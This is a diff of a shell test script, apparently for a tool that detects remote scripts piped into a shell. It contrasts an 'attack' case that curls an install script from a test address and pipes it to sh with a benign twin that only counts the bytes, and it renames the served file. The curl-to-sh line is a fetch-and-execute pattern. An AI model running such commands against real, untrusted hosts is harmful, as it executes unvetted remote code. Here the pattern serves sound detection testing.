@@ -7,36 +7,26 @@
 #: twin: a download is counted, and a script of this host is piped to a shell
 . "$DRIVERS/lib.sh"
 
-serve() {
-	mkdir site
-	echo 'echo hello' >site/install.sh
-	(cd site && exec python3 -u -m http.server 8080 --bind 203.0.113.7 >../listening 2>&1) &
-	trap 'kill %1' EXIT
-	wait_for grep -q Serving listening
-}
-
 piped() {
-	serve
-	curl -s http://203.0.113.7:8080/install.sh | sh
+	site
+	curl -s http://203.0.113.7:8080/install | sh
 }
 
 counted() {
-	serve
-	curl -s http://203.0.113.7:8080/install.sh | wc -c
+	site
+	curl -s http://203.0.113.7:8080/install | wc -c
 	sleep 0.5 # a pipeline's parts begin together
-	cat site/install.sh | sh
+	cat site/install | sh
 }
 
 attack() {
-	export -f serve
 	in_own_network piped
-	did http://203.0.113.7:8080/install.sh
+	did http://203.0.113.7:8080/install
 }
 
 twin() {
-	export -f serve
 	in_own_network counted
-	did http://203.0.113.7:8080/install.sh
+	did http://203.0.113.7:8080/install
 }
 
 "$1"
